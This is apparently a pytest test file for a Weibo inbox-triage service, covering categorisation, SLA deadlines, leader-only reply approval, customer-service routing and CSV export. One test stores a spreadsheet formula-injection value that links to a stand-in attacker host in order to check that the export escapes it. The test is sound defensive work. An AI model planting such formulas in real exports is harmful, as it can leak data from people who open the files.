"""The inbox service on SQLite and PostgreSQL: synced interactions become triaged items with an SLA and a
suggested reply; people correct, assign, route and review; only leaders approve or reject."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from matrix_desktop.app.bootstrap import AppServices
from matrix_desktop.core.errors import ImportRejected, PermissionDenied, ValidationError
from matrix_desktop.core.inbox.answers import AnswerEntry
from matrix_desktop.core.inbox.records import InboxQuery
from matrix_desktop.core.inbox.sla import SlaSettings, add_business_hours
from matrix_desktop.core.weibo import SyncedInteraction
from tests.fixtures.matrix import OFFICIAL, add_team, fan_comment, store_interactions

MANUAL = Path(__file__).resolve().parents[2] / "resources" / "demo" / "answer_manual.csv"
# A Wednesday, 10:00 in Beijing.
T0 = datetime(2026, 11, 18, 2, 0, tzinfo=UTC)

TEXTS = {
    "c1": ("张小姐", "买的星河纯牛奶收到就胀袋了，还漏奶，太让人失望了，要求退款！", 120),
    "q1": ("李先生", "请问开封后的牛奶能放多久？", 30),
    "p1": ("王同学", "星河酸奶真好喝，天天都在喝[心]", 5),
    "x1": ("危机观察", "我家孩子喝了星河奶粉住院了，医院说是食物中毒，已经报警了，记者也来了", 50_000),
    "s1": ("推广小号", "加微信xx123领取免费代金券，日赚三百，点击链接", 0),
}


def interactions(n0: int = 1) -> list[SyncedInteraction]:
    rows = [fan_comment(n, text, T0 + timedelta(minutes=n), author=author, followers=followers,
                        verified=key == "x1", post_text="星河纯牛奶新包装上市，欢迎尝鲜！")
            for n, (key, (author, text, followers)) in enumerate(TEXTS.items(), start=n0)]
    rows.append(replace(rows[0], platform_id="5999999", author_uid=OFFICIAL, author_name="星河乳业",
                        text="回复@张小姐:非常抱歉", from_matrix=True))
    return rows


@pytest.fixture(autouse=True)
def inbox(services: AppServices) -> AppServices:
    add_team(services, leader_display="王总监")
    services.act_as("op")
    services.inbox.use_clock(lambda: T0 + timedelta(minutes=10))
    store_interactions(services, interactions())
    services.inbox.manual.import_manual(MANUAL.read_bytes(), MANUAL.name)
    return services


def by_author(s: AppServices) -> dict[str, int]:
    return {i.author_name: i.id for i in s.inbox.triage.items(InboxQuery(), limit=50)}


def test_ingest_triages_new_outside_interactions_once_and_drafts_replies(services: AppServices) -> None:
    report = services.inbox.triage.ingest()
    assert report.created == 5  # our own reply (from the matrix) is not an inbox item
    assert services.inbox.triage.ingest().created == 0
    items = {i.author_name: i for i in services.inbox.triage.items(InboxQuery(), limit=50)}
    assert items["张小姐"].category == "complaint" and items["李先生"].category == "question"
    assert items["王同学"].category == "praise" and items["推广小号"].status == "spam"
    assert items["危机观察"].category == "crisis" and items["危机观察"].priority == 1
    assert [i.author_name for i in services.inbox.triage.alerts()] == ["危机观察"]
    drafts = {d.author_name: d for d in services.inbox.replies.drafts()}
    assert set(drafts) == {"张小姐", "李先生", "危机观察"}
    assert drafts["李先生"].text.startswith("回复@李先生:") and "PD-01" in drafts["李先生"].entry_keys
    assert "24小时" in drafts["李先生"].text
    # newest first by default
    assert [i.author_name for i in services.inbox.triage.items(InboxQuery())][0] == "推广小号"


def test_filters_by_category_status_author_and_chinese_text(services: AppServices) -> None:
    services.inbox.triage.ingest()
    names = lambda q: sorted(i.author_name for i in services.inbox.triage.items(q))  # noqa: E731
    assert names(InboxQuery(categories=frozenset({"complaint", "crisis"}))) == ["危机观察", "张小姐"]
    assert names(InboxQuery(statuses=frozenset({"spam"}))) == ["推广小号"]
    assert names(InboxQuery(author="小姐")) == ["张小姐"]
    assert names(InboxQuery(text="漏奶")) == ["张小姐"]
    assert names(InboxQuery(text="食物中毒")) == ["危机观察"]
    assert names(InboxQuery(text="奶")) == sorted(["张小姐", "李先生", "危机观察", "王同学"])  # one character: substring
    assert names(InboxQuery(text="開封")) == ["李先生"]  # traditional finds simplified
    assert names(InboxQuery(text="xx12")) == ["推广小号"]
    assert names(InboxQuery(text="退货")) == []
    assert services.inbox.triage.count(InboxQuery(text="牛奶")) == 2


def test_a_correction_is_kept_and_applies_to_the_same_text_next_time(services: AppServices) -> None:
    services.inbox.triage.ingest()
    praise = by_author(services)["王同学"]
    services.inbox.triage.correct_category(praise, "question")
    item = services.inbox.triage.get(praise)
    assert item.category == "question" and item.corrected_by == "op"
    store_interactions(services, [replace(interactions()[2], platform_id="5100000", author_name="另一位")])
    services.inbox.triage.ingest()
    assert services.inbox.triage.get(by_author(services)["另一位"]).category == "question"


def test_sla_counts_business_hours_and_overdue_items_stand_out(services: AppServices) -> None:
    s = SlaSettings()
    friday_5pm = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)  # 17:00 Beijing
    assert add_business_hours(friday_5pm, 2, s) == datetime(2026, 11, 23, 2, 0, tzinfo=UTC)  # Monday 10:00
    services.inbox.triage.ingest()
    complaint = services.inbox.triage.get(by_author(services)["张小姐"])
    assert complaint.due_at == complaint.created_at + timedelta(hours=2)
    crisis = services.inbox.triage.get(by_author(services)["危机观察"])
    assert crisis.due_at == crisis.created_at + timedelta(minutes=30)
    later = T0 + timedelta(hours=3)
    assert sorted(i.author_name for i in services.inbox.triage.items(InboxQuery(overdue_at=later))) == ["危机观察", "张小姐"]
    assert complaint.overdue(later) and not complaint.overdue(T0)
    assert services.inbox.triage.items(InboxQuery(overdue_at=T0 + timedelta(hours=1))) == [crisis]


def test_only_leaders_approve_or_reject_and_the_edit_is_kept_beside_the_suggestion(
        services: AppServices) -> None:
    services.inbox.triage.ingest()
    drafts = {d.author_name: d for d in services.inbox.replies.drafts()}
    question = drafts["李先生"]
    with pytest.raises(PermissionDenied, match="needs the leader role"):
        services.inbox.replies.approve(question.id)
    waiting = {w.draft_id: w.who for w in services.inbox.replies.waiting_on()}
    assert waiting[question.id] == ("leader",)

    services.act_as("leader")
    with pytest.raises(ValidationError, match="绝对化"):
        services.inbox.replies.approve(question.id, "回复@李先生:星河是全国第一的牛奶")
    approved = services.inbox.replies.approve(question.id, "回复@李先生:开封后请冷藏，24小时内喝完哦。")
    assert approved.state == "approved" and approved.suggested_text == question.suggested_text
    assert approved.text == "回复@李先生:开封后请冷藏，24小时内喝完哦。"
    with pytest.raises(ValidationError, match="say why"):
        services.inbox.replies.reject(drafts["张小姐"].id, " ")
    services.inbox.replies.reject(drafts["张小姐"].id, "先私信核实订单")
    assert services.inbox.replies.draft(drafts["张小姐"].id).reject_reason == "先私信核实订单"
    assert services.inbox.triage.get(drafts["张小姐"].item_id).status == "triaged"
    actions = [e.action for e in services.audit.entries("reply.")]
    assert actions == ["reply.approve", "reply.reject"]


def test_a_hand_written_reply_with_rough_words_is_refused_with_words(services: AppServices) -> None:
    services.inbox.triage.ingest()
    item = by_author(services)["张小姐"]
    with pytest.raises(ValidationError, match="粗鲁"):
        services.inbox.replies.write_reply(item, "你是不是傻逼")
    draft_id = services.inbox.replies.write_reply(item, "非常抱歉！请私信订单号，我们马上补发。")
    states = {d.id: d.state for d in services.inbox.replies.drafts(("waiting_review", "superseded"))
              if d.item_id == item}
    assert states[draft_id] == "waiting_review" and "superseded" in states.values()


def test_a_complaint_is_routed_exported_and_not_closed_before_an_answer(services: AppServices) -> None:
    services.inbox.triage.ingest()
    item = by_author(services)["张小姐"]
    ticket = services.inbox.customer_service.route_to_cs(item, "订单号待补")
    assert services.inbox.triage.get(item).status == "routed"
    with pytest.raises(ValidationError, match="already with customer service"):
        services.inbox.customer_service.route_to_cs(item)
    raw = services.inbox.customer_service.export_tickets_csv()
    rows = list(csv.DictReader(io.StringIO(raw.lstrip("\ufeff"))))
    assert [(r["ticket"], r["author"], r["note"]) for r in rows] == [(str(ticket.id), "张小姐", "订单号待补")]
    assert "胀袋" in rows[0]["text"] and services.inbox.customer_service.tickets()[0].exported_at is not None
    assert "【微博客诉工单" in services.inbox.customer_service.ticket_text(item)
    with pytest.raises(ValidationError, match="no answer"):
        services.inbox.triage.close(item)
    services.inbox.customer_service.set_ticket_status(ticket.id, "done")
    with pytest.raises(ValidationError, match="no answer"):
        services.inbox.triage.close(item)


def test_manual_import_is_all_or_nothing_and_entries_can_be_edited(services: AppServices) -> None:
    before = services.inbox.manual.answers()
    with pytest.raises(ImportRejected):
        services.inbox.manual.import_manual("id,department,question,answer\nX-1,售后,问题,\n".encode(), "bad.csv")
    assert services.inbox.manual.answers() == before
    md = "# 手册\n\n## 可以开发票吗？\n部门: 电商运营部\nid: MD-1\n\n可以，在订单页申请。\n"
    assert services.inbox.manual.import_manual(md.encode(), "faq.md") == 1
    services.inbox.manual.save_answer(AnswerEntry("MD-1", "电商运营部", "可以开发票吗？", "可以，订单页申请开票。", ("发票",)))
    assert {e.key: e.answer for e in services.inbox.manual.answers()}["MD-1"] == "可以，订单页申请开票。"
    services.inbox.manual.delete_answer("MD-1")
    assert "MD-1" not in {e.key for e in services.inbox.manual.answers()}


def test_the_manual_index_is_built_once_and_again_after_the_manual_changes(services: AppServices) -> None:
    triage = services.inbox.triage
    first = triage.answer_index()
    assert triage.answer_index() is first  # the same manual: the same index, not a new one per ingest
    entry = AnswerEntry("INV-1", "电商运营部", "可以开发票吗？", "可以，在订单页申请开票。", ("发票", "开票"))
    services.inbox.manual.save_answer(entry)
    changed = triage.answer_index()
    assert changed is not first and "INV-1" in {e.key for e in changed.entries}
    assert changed.match("买的牛奶能开发票吗", k=1)[0][0].key == "INV-1"


def test_a_formula_in_a_ticket_is_exported_as_text(services: AppServices) -> None:
    services.inbox.triage.ingest()
    item = by_author(services)["张小姐"]
    services.inbox.customer_service.route_to_cs(item, '=HYPERLINK("http://evil.example/?leak","点我")')
    rows = list(csv.reader(io.StringIO(services.inbox.customer_service.export_tickets_csv().lstrip("\ufeff"))))
    assert rows[1][rows[0].index("note")] == "'=HYPERLINK(\"http://evil.example/?leak\",\"点我\")"
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


def test_pages_read_the_list_a_screen_at_a_time_in_the_same_order_as_ids(services: AppServices) -> None:
    triage = services.inbox.triage
    texts = [f"请问星河纯牛奶保质期多久 {n}" for n in range(23)] + ["买的酸奶过期了要求退款"] * 4
    # Some share a moment, so the id breaks ties in every order.
    store_interactions(services, [fan_comment(100 + n, t, T0 + timedelta(minutes=n // 3)) for n, t in enumerate(texts)])
    triage.ingest()
    for q in (InboxQuery(sort="created_at", descending=True), InboxQuery(sort="priority"),
              InboxQuery(sort="due_at", descending=True), InboxQuery(text="退款", sort="created_at")):
        every = triage.ids(q)
        pages = triage.pages(q)
        read = [i.id for start in range(0, len(every), 5) for i in pages.rows(start, 5)]
        assert read == every
        assert pages.count() == len(every)
        # A jump to the end reads from the far end and still lands on the same rows.
        fresh = triage.pages(q)
        fresh.count()
        assert [i.id for i in fresh.rows(len(every) - 5, 5)] == every[-5:]


def test_the_first_screen_reads_the_same_items_as_the_list_by_ids(services: AppServices) -> None:
    services.inbox.triage.ingest()
    for q in (InboxQuery(), InboxQuery(statuses=frozenset({"new", "triaged", "waiting_review", "routed"})),
              InboxQuery(sort="priority", descending=False), InboxQuery(categories=frozenset({"complaint", "crisis"})),
              InboxQuery(sort="due_at")):
        first = services.inbox.triage.pages(q).rows(0, 3)
        assert first == services.inbox.triage.items(q, limit=3), q
        assert all(i.created_at.tzinfo is not None for i in first)
    # the next screen continues from the first one's last row (keyset), in the same order as the id list
    pages = services.inbox.triage.pages(InboxQuery())
    assert pages.rows(0, 2) + pages.rows(2, 2) == services.inbox.triage.items(InboxQuery(), limit=4)


def test_a_question_no_manual_entry_fits_gets_no_draft_and_asks_a_person_to_write_one(
        services: AppServices) -> None:
    services.inbox.triage.ingest()
    store_interactions(services, [fan_comment(50, "你们赞助的足球队下赛季还踢中超吗？", T0 + timedelta(minutes=9),
                                              author="球迷老赵", post_text="星河纯牛奶新包装上市，欢迎尝鲜！")])
    report = services.inbox.triage.ingest()
    assert (report.created, report.drafts) == (1, 0)
    [item] = [i for i in services.inbox.triage.items(InboxQuery(), limit=50) if i.author_name == "球迷老赵"]
    assert item.category == "question" and item.status == "new"
    assert item.reasons.endswith("no manual entry fits — write one")
    assert services.inbox.triage.conversation(item.id).drafts == ()
    # The person writes it with the composer: a hand-written draft waits for a leader like any other.
    services.inbox.replies.write_reply(item.id, "回复@球迷老赵:下赛季的赞助安排公布后我们第一时间告诉您！")
    conv = services.inbox.triage.conversation(item.id)
    assert [(d.source, d.state) for d in conv.drafts] == [("manual", "waiting_review")]
    assert conv.item.status == "waiting_review" and conv.manual == ()
